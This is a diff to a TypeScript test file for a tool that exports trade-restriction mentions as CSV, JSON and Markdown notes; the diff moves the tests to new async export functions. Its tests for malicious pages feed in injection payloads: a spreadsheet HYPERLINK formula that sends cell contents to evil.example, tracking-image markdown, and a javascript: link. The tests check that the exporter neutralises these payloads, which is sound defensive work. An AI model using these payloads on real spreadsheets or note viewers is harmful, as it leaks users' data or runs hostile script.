@@ -9,7 +9,9 @@ import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { CardModel } from '../../../lib/card/model/card-model.ts';
 import {
+  exportCsv,
   exportMentions,
+  exportText,
   exportWorkbook,
   fileName,
   type ExportRequest,
@@ -102,8 +104,8 @@ const request: ExportRequest = {
   t: createMessages('en'),
 };
 
-it('exports a line with the mention, its place, the status then and now, and the sources', () => {
-  const [line] = Papa.parse<Record<string, string>>(exportMentions('csv', request).replace('\ufeff', ''), {
+it('exports a line with the mention, its place, the status then and now, and the sources', async () => {
+  const [line] = Papa.parse<Record<string, string>>((await exportCsv(request)).replace('\ufeff', ''), {
     header: true,
   }).data;
   expect(line).toMatchObject({
@@ -121,21 +123,21 @@ it('exports a line with the mention, its place, the status then and now, and the
   });
 });
 
-it.each(['csv', 'json', 'markdown'] as const)('links to the page of a document, in %s', (format) => {
+it.each(['csv', 'json', 'markdown'] as const)('links to the page of a document, in %s', async (format) => {
   const page = { ...request.page, url: 'https://law.example/46.pdf#view=fit' };
-  const told = exportMentions(format, { ...request, page, mentions: [{ ...mention, page: 12 }] });
+  const told = await exportMentions(format, { ...request, page, mentions: [{ ...mention, page: 12 }] });
   expect(told).toContain('https://law.example/46.pdf#page=12');
   // A file on the user's computer has no address.
   const local = { ...request, page: { ...page, url: '' }, mentions: [{ ...mention, page: 12 }] };
-  expect(exportMentions(format, local)).not.toContain('#page');
+  expect(await exportMentions(format, local)).not.toContain('#page');
 });
 
 it('exports the same as JSON, and as notes grouped by entry', () => {
-  expect(JSON.parse(exportMentions('json', request))).toMatchObject({
+  expect(JSON.parse(exportText('json', request))).toMatchObject({
     url: request.page.url,
     mentions: [{ entry: 'Gallium', restrains: 'exports' }],
   });
-  const notes = exportMentions('markdown', {
+  const notes = exportText('markdown', {
     ...request,
     mentions: [mention, { ...mention, n: 1, quote: 'More gallium.' }],
   });
@@ -148,7 +150,7 @@ it('exports the same as JSON, and as notes grouped by entry', () => {
       refs: [],
     })),
   };
-  expect(exportMentions('markdown', { ...request, card: () => held })).toContain(
+  expect(exportText('markdown', { ...request, card: () => held })).toContain(
     ':\n  - Paused (China to United States)\n  - Licence needed (China to all destinations)\n',
   );
   expect(notes).toContain('- [2] MOFCOM, Announcement 72, 9 Nov 2025. <https://mofcom.example/72>');
@@ -184,10 +186,10 @@ const withText = (text: string): ExportRequest => ({
 });
 
 describe('a malicious page or list', () => {
-  it('cannot put a formula into a spreadsheet, or part of a cell onto a second line', () => {
+  it('cannot put a formula into a spreadsheet, or part of a cell onto a second line', async () => {
     for (const before of BEFORE)
       for (const start of STARTS) {
-        const file = exportMentions('csv', withText(`${before}${start}HYPERLINK("https://evil.example/?q="&B2,"x")`));
+        const file = await exportCsv(withText(`${before}${start}HYPERLINK("https://evil.example/?q="&B2,"x")`));
         const cells = Papa.parse<string[]>(file.replace('\ufeff', ''), { skipEmptyLines: true }).data.flat();
         expect(cells).toHaveLength(34);
         expect(cells.filter((cell) => RUNS_IN_A_SPREADSHEET.test(cell))).toEqual([]);
@@ -195,7 +197,7 @@ describe('a malicious page or list', () => {
       }
   });
 
-  const ours = renderedElements(exportMentions('markdown', withText('words')));
+  const ours = renderedElements(exportText('markdown', withText('words')));
   it.each([
     ['an image', '![x](https://evil.example/seen.png)'],
     ['an image by reference', '![x][y]\n\n[y]: https://evil.example/seen.png'],
@@ -214,7 +216,7 @@ describe('a malicious page or list', () => {
     ['emphasis', '*a* **b** _c_ ~~d~~'],
     ['a backslash before markup', '\\*a\\* \\<b>'],
   ])('cannot put markup into notes: %s', (_, text) => {
-    expect(renderedElements(exportMentions('markdown', withText(text)))).toEqual(ours);
+    expect(renderedElements(exportText('markdown', withText(text)))).toEqual(ours);
   });
 
   it('cannot put markup into notes, and keeps its words', () => {
@@ -228,7 +230,7 @@ describe('a malicious page or list', () => {
     fc.assert(
       fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
         const text = `w${pieces.join('')}`;
-        const notes = exportMentions('markdown', withText(text));
+        const notes = exportText('markdown', withText(text));
         expect(renderedElements(notes)).toEqual(ours);
         const heading = new Parser().parse(notes).firstChild;
         const words = text.replace(/[\s\u2028]+/g, ' ').trim();
@@ -244,17 +246,17 @@ describe('a malicious page or list', () => {
     'https://news.example/story\n\n![](https://evil.example/seen.png)',
     'https://news.example/a`b\\',
   ])('cannot put markup into notes by its address: %s', (url) => {
-    const notes = exportMentions('markdown', {
+    const notes = exportText('markdown', {
       ...request,
       page: { ...request.page, url },
       card: () => ({ ...gallium, sources: gallium.sources.map((source) => ({ ...source, url })) }),
     });
-    expect(renderedElements(notes)).toEqual(renderedElements(exportMentions('markdown', request)));
+    expect(renderedElements(notes)).toEqual(renderedElements(exportText('markdown', request)));
     expect(notes).not.toContain('](https://evil');
   });
 
   it('cannot put a link that runs code into notes', () => {
-    const notes = exportMentions('markdown', {
+    const notes = exportText('markdown', {
       ...request,
       page: { ...request.page, url: 'javascript:alert(1)//https://news.example/' },
     });
@@ -281,18 +283,18 @@ function textIn(node: {
 }
 
 it('exports a quote that contains half a character', () => {
-  expect(exportMentions('json', { ...request, mentions: [{ ...mention, text: 'a\ud83d' }] })).toContain(
+  expect(exportText('json', { ...request, mentions: [{ ...mention, text: 'a\ud83d' }] })).toContain(
     '#top:~:text=Beijing%20put-,a%EF%BF%BD,',
   );
 });
 
 it('exports an entry that the base no longer has by its name', () => {
-  expect(exportMentions('json', { ...request, card: () => null })).toContain('"entry": "Gallium"');
+  expect(exportText('json', { ...request, card: () => null })).toContain('"entry": "Gallium"');
 });
 
 it('exports an ECCN unchanged: as text in a workbook, escaped in CSV', async () => {
   const eccn = { ...request, mentions: [{ ...mention, text: '3E001' }] };
-  const [line] = Papa.parse<Record<string, string>>(exportMentions('csv', eccn).replace('\ufeff', ''), {
+  const [line] = Papa.parse<Record<string, string>>((await exportCsv(eccn)).replace('\ufeff', ''), {
     header: true,
   }).data;
   expect(line?.['text']).toBe("'3E001");
@@ -305,14 +307,14 @@ it('exports an ECCN unchanged: as text in a workbook, escaped in CSV', async () 
 
 it('exports one line an entry in short form, with its status and one source', () => {
   const many = Array.from({ length: 40 }, (_, n) => ({ ...mention, n, quote: `Sentence ${n} on gallium. `.repeat(9) }));
-  const short = exportMentions('short', { ...request, mentions: many });
+  const short = exportText('short', { ...request, mentions: many });
   expect(short).toContain(
     '- **Gallium** (Mineral, 40 mentions) · Suspended 9 Nov 2025 to 27 Nov 2026 (China to United States) · MOFCOM, Announcement 72, 9 Nov 2025 <https://mofcom.example/72>\n',
   );
-  expect(short.length).toBeLessThan(exportMentions('markdown', { ...request, mentions: many }).length / 10);
-  const ours = renderedElements(exportMentions('short', withText('words')));
+  expect(short.length).toBeLessThan(exportText('markdown', { ...request, mentions: many }).length / 10);
+  const ours = renderedElements(exportText('short', withText('words')));
   for (const text of ['![x](https://evil.example/seen.png)', '<img src=x>', 'a\n# b', '**c**'])
-    expect(renderedElements(exportMentions('short', withText(text)))).toEqual(ours);
+    expect(renderedElements(exportText('short', withText(text)))).toEqual(ours);
 });
 
 it('escapes the brackets of a text fragment, which would end a link in notes', () => {
